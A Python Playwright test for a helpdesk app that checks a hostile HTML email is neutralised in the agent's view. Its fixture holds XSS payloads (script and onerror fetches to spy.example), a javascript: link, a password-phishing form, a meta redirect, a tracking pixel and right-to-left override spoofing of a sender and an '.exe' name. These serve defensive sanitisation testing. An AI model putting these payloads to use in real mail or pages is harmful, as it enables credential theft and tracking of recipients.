"""A mail that tries everything: on the agent's screen it runs nothing, loads nothing, leads nowhere and breaks nothing."""

import re

from playwright.sync_api import Page, Route, expect

from tests.kit.desk import PASSWORD, add_agent, send_mail
from tests.kit.server import Server

HTML = """
<style>body, .tk { display: none !important } @import url(https://spy.example/a.css);</style>
<script>document.title = "acted"; fetch("https://spy.example/b")</script>
<p onclick="alert(1)" onmouseover="alert(2)" style="position:fixed;inset:0;background:url(https://spy.example/c)">Guten Tag</p>
<img src="https://spy.example/pixel.png" width="1" height="1"><img src=x onerror="fetch('https://spy.example/d')">
<a href="javascript:fetch('https://spy.example/e')">Hier klicken</a> <a href="https://shop.example/rechnung">Rechnung</a>
<form action="https://spy.example/f"><input name="password"><button>Anmelden</button></form>
<iframe src="https://spy.example/g"></iframe><meta http-equiv="refresh" content="0;url=https://spy.example/h">
<base href="https://spy.example/"><svg><script>alert(3)</script></svg></div></div></article></main></body>
"""
TURNING = re.compile("[\u202a-\u202e\u2066-\u2069]")
FROM = "anna@kunde.example"
NESTED = "Ganz oben." + "<table><tr><td>" * 340_000
"""5 MB."""


def test_a_mail_that_tries_everything_does_nothing_until_pictures_are_asked_for(server: Server, page: Page):
    add_agent(server, "lena", "--role", "lead", "--level", "1", "--level", "2")
    send_mail(
        server, "Harmlos \u202etxt.exe", "Guten Tag \u202ehcsaltorT", f"\u202eelpmaxe.knab@ofni\u202c <{FROM}>", HTML
    )
    send_mail(server, "Tabellen", "", html=NESTED)
    asked: list[str] = []

    def elsewhere(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=204)

    page.context.route("https://*.example/**", elsewhere)
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    page.goto(f"{server.http_url}/desk/")
    page.get_by_label("Anmeldename").fill("lena")
    page.get_by_label("Passwort", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Anmelden").click()
    expect(page.locator("table.list tbody tr")).to_have_count(2, timeout=30_000)

    assert not TURNING.search(page.content()), "no name or subject turns the list"
    page.get_by_role("link", name="Harmlos").click()
    desk = page.url
    expect(page.locator("#conversation")).to_contain_text("Ihre Nachricht „Harmlos txt.exe“", timeout=15_000)
    expect(page.locator(".msg").first).to_contain_text("elpmaxe.knab@ofni")
    assert not TURNING.search(page.content()), "nothing turns what stands around it"
    page.get_by_text("Mit Gestaltung").click()
    frame = page.frame_locator("iframe.mailframe")
    expect(frame.get_by_text("Guten Tag")).to_be_visible()
    frame.get_by_text("Guten Tag").click()
    frame.get_by_text("Hier klicken").click()
    assert frame.locator("form, input, iframe, script, svg, meta[http-equiv]").count() == 0
    link = frame.get_by_text("Rechnung")
    assert (link.get_attribute("href"), link.get_attribute("rel")) == (
        "https://shop.example/rechnung",
        "noopener noreferrer",
    )
    assert asked == [] and page.url == desk and page.title() != "acted"
    expect(page.locator("#reply-text")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "nothing reaches beyond its box"

    with page.expect_request("https://spy.example/pixel.png"):
        page.get_by_role("link", name="Bilder laden").click()
    expect(frame.get_by_text("Guten Tag")).to_be_visible()
    assert asked == ["https://spy.example/pixel.png"], "the picture, and nothing else"

    page.goto(f"{server.http_url}/desk/")
    page.get_by_role("link", name="Tabellen").click()
    expect(page.locator("#conversation")).to_contain_text("Ganz oben.")
    assert page.locator("iframe.mailframe").count() == 0, "nested beyond reason: its text is enough"
